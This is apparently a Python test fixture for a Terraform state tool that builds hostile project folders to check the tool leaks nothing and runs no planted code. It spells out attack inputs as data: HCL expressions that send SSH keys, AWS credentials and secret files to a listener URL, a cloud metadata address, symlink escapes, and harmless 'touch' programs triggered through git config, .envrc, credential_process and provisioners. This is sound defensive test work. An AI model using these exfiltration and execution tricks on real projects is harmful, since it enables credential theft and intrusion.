"""Makes hostile folders: every argument of every backend, with a value from every source that a stranger has.

A source is `taken` if its value is something of the user's: then nothing may be sent anywhere. Else the stranger wrote
the value, and a host that it names may get a request, but nothing of the user's.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Final, NamedTuple

from statefmt.store.backends.description import ArgumentKind, BackendArgument
from statefmt.store.backends.settings import named_arguments
from statefmt.store.backends.types import BACKENDS as KNOWN_BACKENDS, backend_type
from tests.strangers.scene import NOWHERE, User

Files = dict[str, "str | bytes"]


class Source(NamedTuple):
    """A source of a value: the expression of the argument, and whether it is the user's; files that it needs."""

    expression: str
    is_taken: bool
    beside: Mapping[str, str] = {}


class Folder(NamedTuple):
    """A hostile folder: what a failure calls it, its files, and whether any request is a fault."""

    name: str
    files: Files
    is_taken: bool


def _taking(expression: str, **beside: str) -> Source:
    """A value of the user's at the end of a URL of the stranger's, which is where it would be sent."""
    return _whole(f'"http://127.0.0.1:PORT/${{{expression}}}"', **beside)


def _whole(expression: str, **beside: str) -> Source:
    """A value of the user's and nothing else."""
    return Source(expression, is_taken=True, beside=beside)


def _literal(text: str) -> Source:
    return Source(json.dumps(text), is_taken=False)


def _filled(text: str, user: User) -> str:
    names = {"HOME": user.home, "VICTIM": user.victim, "PORT": user.listener.port, "NOWHERE": NOWHERE}
    for name, value in names.items():
        text = text.replace(name, str(value))
    return text


_LINKED: Final = {"x.auto.tfvars": "-> ../victim/variables.tfvars"}

SOURCES: Final[dict[str, Source]] = {
    "URL": _literal("http://127.0.0.1:PORT/s"),
    "connection string": _literal("postgres://127.0.0.1:PORT/db?sslmode=disable&connect_timeout=2"),
    "passfile": _literal("host=127.0.0.1 port=PORT sslmode=disable connect_timeout=2 passfile=HOME/.pgpass"),
    "host without an address": _literal("http://NOWHERE/s"),
    "metadata": _literal("http://169.254.169.254/latest/meta-data/iam"),
    "absolute path": _literal("HOME/.ssh/id_rsa"),
    "path in the home": _literal("~/.ssh/id_rsa"),
    "path of a state": _literal("../victim/terraform.tfstate"),
    "folder outside": _literal("../victim/workspaces"),
    "credentials file": _literal("HOME/.aws/credentials"),
    "program": _literal("touch VICTIM/made"),
    "name of a variable": _literal("${TF_VAR_token}".replace("$", "$$")),
    "control characters": _literal("x\\u001b]0;title\\u0007"),
    "variable": _taking("var.token"),
    "whole variable": _whole("var.token"),
    "file": _taking('file("HOME/secret.txt")'),
    "whole file": _whole('file("HOME/secret.txt")'),
    "file, relative": _taking('file("../home/secret.txt")'),
    "file in the home": _taking('file("~/secret.txt")'),
    "file, base64": _taking('filebase64("HOME/secret.txt")'),
    "file, hash": _taking('filesha256("HOME/secret.txt")'),
    "template": _taking('templatefile("HOME/secret.txt", {})'),
    "string as a template": _taking("templatestring(local.template, {})"),
    "encoded": _taking('base64encode(file("HOME/secret.txt"))'),
    "reversed": _taking('strrev(file("HOME/secret.txt"))'),
    "in JSON": _taking('urlencode(jsonencode({ a = [var.token, file("HOME/secret.txt")] }))'),
    "existence": _taking('fileexists("HOME/secret.txt") ? "yes" : "no"'),
    "names of files": _taking('join(",", fileset("HOME/.ssh", "*"))'),
    "home": _taking('pathexpand("~/x")'),
    "whole home": _whole('pathexpand("~/.ssh/id_rsa")'),
    "current folder": _taking('abspath(".")'),
    "path.cwd": _taking("path.cwd"),
    "local": _taking("local.wrapped"),
    "local of a local": _taking("local.twice"),
    "default of a variable": _taking("var.defaulted"),
    "linked file of variables": _taking("var.linked", **_LINKED),
    "linked file of variables, JSON": _taking(
        "var.linked", **{"terraform.tfvars.json": "-> ../victim/variables.tfvars"}
    ),
    "fallback": _taking('try(file("HOME/secret.txt"), "x")'),
    "success": _taking('can(regex("^CANARY", var.token)) ? "yes" : "no"'),
    "comparison": _taking('var.token == "x" ? "yes" : "no"'),
    "loop": _taking('[for c in [file("HOME/secret.txt")] : c][0]'),
    "loop over a map": _taking('{ for k, v in { a = var.token } : k => v }["a"]'),
    "splat": _taking("[{ a = var.token }][*].a[0]"),
    "core::": _taking('core::file("HOME/secret.txt")'),
    "sensitive": _taking("nonsensitive(sensitive(var.token))"),
    "heredoc": _whole("<<X\nhttp://127.0.0.1:PORT/${var.token}\nX\n"),
    "module": _taking("module.outside.x"),
    "each part": _taking('substr(file("HOME/secret.txt"), 0, 3)'),
}

# What every `taken` expression may refer to.
_DECLARATIONS: Final = """\
variable "token" {}
variable "linked" {}
variable "defaulted" {
  default = file("HOME/secret.txt")
}
locals {
  wrapped = file("HOME/secret.txt")
  twice   = upper(lower(local.wrapped))
  template = "$${file(\\"HOME/secret.txt\\")}"
}
module "outside" {
  source = "../victim/module"
}
"""
# What a block has besides the argument that is tried, so that its place is complete and its hosts are the listener.
_BASES: Final[dict[str, dict[str, object]]] = {
    "http": {"address": "http://127.0.0.1:PORT/s", "retry_max": 0},
    "s3": {
        "bucket": "bucket",
        "key": "k",
        "region": "eu-west-1",
        "max_retries": 0,
        "use_path_style": True,
        "endpoints": dict.fromkeys(("s3", "sts", "dynamodb", "iam", "sso"), "http://127.0.0.1:PORT"),
    },
    "pg": {"conn_str": "postgres://127.0.0.1:PORT/db?sslmode=disable&connect_timeout=2"},
    "azurerm": {"storage_account_name": "a", "container_name": "c", "key": "k"},
    "gcs": {"bucket": "bucket"},
    "consul": {"path": "p", "address": "127.0.0.1:PORT", "scheme": "http"},
    "kubernetes": {"secret_suffix": "s"},
    "remote": {"organization": "o", "hostname": "127.0.0.1:PORT", "workspaces": {"name": "w"}},
    "cloud": {"organization": "o", "hostname": "127.0.0.1:PORT", "workspaces": {"name": "w"}},
    "oci": {"bucket": "bucket", "namespace": "n"},
    "oss": {"bucket": "bucket", "endpoint": "http://127.0.0.1:PORT"},
    "cos": {"bucket": "bucket", "endpoint": "http://127.0.0.1:PORT"},
    "local": {},
    "inmem": {},
}

# Credentials of the stranger's own, with which a request needs none of the user's.
_OWN: Final[dict[str, dict[str, object]]] = {
    "http": {"username": "stranger", "password": "stranger"},
    "s3": {"access_key": "AKIASTRANGER", "secret_key": "stranger"},
    "pg": {"conn_str": "postgres://stranger:stranger@127.0.0.1:PORT/db?sslmode=disable&connect_timeout=2"},
}


def cases() -> list[tuple[str, str, str]]:
    """Return every argument of every backend with every source of a value, as their names."""
    return [
        (backend, name, source)
        for backend in sorted(KNOWN_BACKENDS)
        for name, argument in arguments_of(backend)
        if not argument.parts
        for source in SOURCES
    ]


def arguments_of(backend: str) -> list[tuple[str, BackendArgument]]:
    """Return the arguments of a backend with their whole names."""
    found = backend_type(backend)
    assert found is not None
    return list(named_arguments(found.arguments))


def block_folder(
    user: User, backend: str, name: str, source: str, *, json_syntax: bool = False, has_keys: bool = False
) -> Folder:
    """Return the folder whose backend block has the argument from this source."""
    tried = SOURCES[source]
    kind = dict(arguments_of(backend))[name].kind
    expression = _filled(tried.expression, user)
    if kind is ArgumentKind.STRUCTURE:
        expression = f"{{ X-A = {expression} }}" if name in ("headers", "labels", "tags") else f"[{expression}]"
    base = {**_BASES[backend], **(_OWN.get(backend, {}) if has_keys else {})}
    values = {key: _filled_all(value, user) for key, value in base.items()}
    files: Files = dict(tried.beside)
    if json_syntax:
        # In JSON, a string is a template.
        text = expression[1:-1] if expression.startswith('"') else f"${{{expression}}}"
        body = json.dumps(_set(values, name, text.replace('\\"', '"')))
        declared = _filled(_DECLARATIONS, user)
        kind_of_block = "cloud" if backend == "cloud" else f'backend": {{"{backend}'
        closing = "" if backend == "cloud" else "}"
        files["backend.tf.json"] = f'{{"terraform": {{"{kind_of_block}": {body}{closing}}}}}'
        files["main.tf"] = declared
    else:
        label = "cloud" if backend == "cloud" else f'backend "{backend}"'
        body = _written(values, name, expression)
        files["main.tf"] = _filled(_DECLARATIONS, user) + f"terraform {{\n  {label} {{\n{body}}}\n}}\n"
    return Folder(
        f"{backend}.{name} = {source}{', in JSON' if json_syntax else ''}{', own keys' if has_keys else ''}",
        files,
        tried.is_taken,
    )


def record_folder(user: User, backend: str, name: str, source: str) -> Folder:
    """Return the folder where `init` recorded the argument from this source: nothing in a record is evaluated."""
    tried = SOURCES[source]
    expression = _filled(tried.expression, user)
    values = {key: _filled_all(value, user) for key, value in _BASES[backend].items()}
    text = json.loads(expression) if not tried.is_taken else expression.strip('"')
    value: object = text
    if dict(arguments_of(backend))[name].kind is ArgumentKind.STRUCTURE:
        value = {"X-A": text} if name in ("headers", "labels", "tags") else [text]
    recorded = {"version": 3, "backend": {"type": backend, "config": _set(values, name, value), "hash": 1}}
    return Folder(
        f"{backend}.{name} = {source}, recorded",
        # What is not evaluated is the stranger's own text, which may be sent.
        {".terraform/terraform.tfstate": json.dumps(recorded), **dict(tried.beside)},
        is_taken=False,
    )


def _filled_all(value: object, user: User) -> object:
    if isinstance(value, dict):
        return {name: _filled_all(one, user) for name, one in value.items()}
    return _filled(value, user) if isinstance(value, str) else value


def _set(values: Mapping[str, object], name: str, value: object) -> dict[str, object]:
    outer, _, inner = name.partition(".")
    if not inner:
        return {**values, name: value}
    parts = values.get(outer)
    return {**values, outer: {**(parts if isinstance(parts, dict) else {}), inner: value}}


def _written(values: Mapping[str, object], name: str, expression: str) -> str:
    """Return the body of a block, with nested blocks."""
    outer, _, inner = name.partition(".")
    lines = [f"{key} = {json.dumps(value)}" for key, value in values.items() if key != outer]
    if not inner:
        return "\n".join([*lines, f"{name} = {expression}", ""])
    parts = values.get(outer)
    nested = [
        f"{key} = {json.dumps(one)}" for key, one in (parts if isinstance(parts, dict) else {}).items() if key != inner
    ]
    return "\n".join([*lines, f"{outer} {{", *nested, f"{inner} = {expression}", "}", ""])


_EVIL: Final = "#!/bin/sh\ntouch 'VICTIM/made'\n"
_OPERATIONS: Final = """\
state "a" {
  path = "terraform.tfstate"
}
move {
  from = state.a.terraform_data.a
  to   = state.a.terraform_data.c
}
"""
_PLAN: Final = {
    "format_version": "1.2",
    "terraform_version": "1.9.0",
    "planned_values": {"root_module": {}},
    "resource_changes": [],
    "configuration": {"root_module": {"module_calls": {"m": {"source": "../victim/module"}}}},
    "prior_state": {"format_version": "1.0", "values": {"root_module": {}}},
}
# A backend for the whole folder, none for the file in it.
BACKENDS: Final = {
    "none": "",
    "local": 'backend "local" {\n  path = "sub/terraform.tfstate"\n}',
    "outside": 'backend "local" {\n  path = "../victim/terraform.tfstate"\n  workspace_dir = "../victim/workspaces"\n}',
    "http": 'backend "http" {\n  address = "http://127.0.0.1:PORT/s"\n  lock_address = "http://NOWHERE/l"\n'
    "  retry_max = 0\n}",
    "s3": 'backend "s3" {\n  bucket = "bucket"\n  key = "k"\n  region = "eu-west-1"\n  use_lockfile = true\n'
    "  max_retries = 0\n  use_path_style = true\n"
    '  endpoints = { s3 = "http://127.0.0.1:PORT", sts = "http://127.0.0.1:PORT" }\n}',
    "s3, program": 'backend "s3" {\n  bucket = "bucket"\n  key = "k"\n  region = "eu-west-1"\n'
    '  shared_config_files = ["aws.config"]\n  profile = "p"\n  max_retries = 0\n  use_path_style = true\n'
    '  endpoints = { s3 = "http://127.0.0.1:PORT" }\n}',
    "pg": 'backend "pg" {\n  conn_str = "postgres://127.0.0.1:PORT/db?sslmode=disable&connect_timeout=2"\n}',
    "kubernetes": 'backend "kubernetes" {\n  secret_suffix = "s"\n  exec = {\n    command = "VICTIM/evil"\n  }\n}',
}


def whole_folder(user: User, backend: str, state: bytes, *, index: bytes = b"") -> Folder:
    """Return a folder with everything hostile that does not keep commands from their work."""
    main = f"""\
terraform {{
  {BACKENDS[backend]}
  encryption {{
    key_provider "external" "k" {{
      command = ["./evil", "VICTIM"]
    }}
    method "aes_gcm" "m" {{
      keys = key_provider.external.k
    }}
    state {{
      method = method.aes_gcm.m
    }}
  }}
  required_providers {{
    aws = {{
      source = "NOWHERE/evil/aws"
    }}
  }}
}}
provider "aws" {{
  alias = "west"
}}
provider "aws" {{
  alias    = "by"
  for_each = fileset("HOME/.ssh", "*")
}}
data "external" "run" {{
  program = ["./evil"]
}}
resource "terraform_data" "a" {{
  provisioner "local-exec" {{
    command = "./evil"
  }}
}}
module "remote" {{
  source = "git::https://NOWHERE/module.git"
}}
module "archive" {{
  source = "http://127.0.0.1:PORT/module.zip"
}}
"""
    files: Files = {
        "main.tf": main,
        "declared.tf": _DECLARATIONS,
        "terraform.tfstate": state,
        "terraform.tfstate.backup": state,
        "errored.tfstate": state,
        "sub/terraform.tfstate": state,
        "plan.json": json.dumps(_PLAN),
        "schemas.json": json.dumps({"format_version": "1.0", "provider_schemas": {}}),
        "ops.stateops.hcl": _OPERATIONS,
        "migration.hcl": 'migration "state" "m" {\n  dir = "."\n  actions = [\n'
        '    "mv terraform_data.a terraform_data.d",\n  ]\n}\n',
        "statetool.toml": 'baseline = "known.json"\nfail-on = "error"\n',
        "known.json": '{"format_version": "1.0", "states": {}}\n',
        "aws.config": "[profile p]\ncredential_process = VICTIM/evil\n",
        ".terraform.lock.hcl": 'provider "NOWHERE/evil/aws" {\n  version = "1.0.0"\n}\n',
        ".terraform/modules/modules.json": json.dumps(
            {
                "Modules": [
                    {"Key": "", "Source": "", "Dir": "."},
                    {"Key": "remote", "Source": "git::https://NOWHERE/module.git", "Dir": "../victim/module"},
                ]
            }
        ),
        ".terraform/providers/NOWHERE/evil/aws/1.0.0/linux_amd64/terraform-provider-aws": _EVIL,
        ".terraformrc": 'provider_installation {\n  dev_overrides {\n    "evil/aws" = "."\n  }\n}\n',
        ".gitattributes": "*.tfstate diff=evil filter=evil\n",
        ".gitconfig": '[diff "evil"]\n  command = ./evil\n[core]\n  fsmonitor = ./evil\n',
        ".envrc": "touch VICTIM/made\n",
        "sitecustomize.py": "raise SystemExit('run')\n",
        "json.py": "raise SystemExit('run')\n",
        "statefmt/__init__.py": "raise SystemExit('run')\n",
        **dict.fromkeys(("evil", "git", "tofu", "terraform", "pager", "true", "sh"), _EVIL),
        ".terraform.tfstate.statetool/contents/keep": "-> ../../../victim/other.tfstate",
        "linked.tfstate": "-> ../victim/other.tfstate",
        "linked": "-> ../victim",
    }
    if index:
        files["index.duckdb"] = index
    filled: Files = {
        _filled(name, user): content if isinstance(content, bytes) else _filled(content, user)
        for name, content in files.items()
    }
    return Folder(f"whole folder, backend {backend}", filled, is_taken=False)
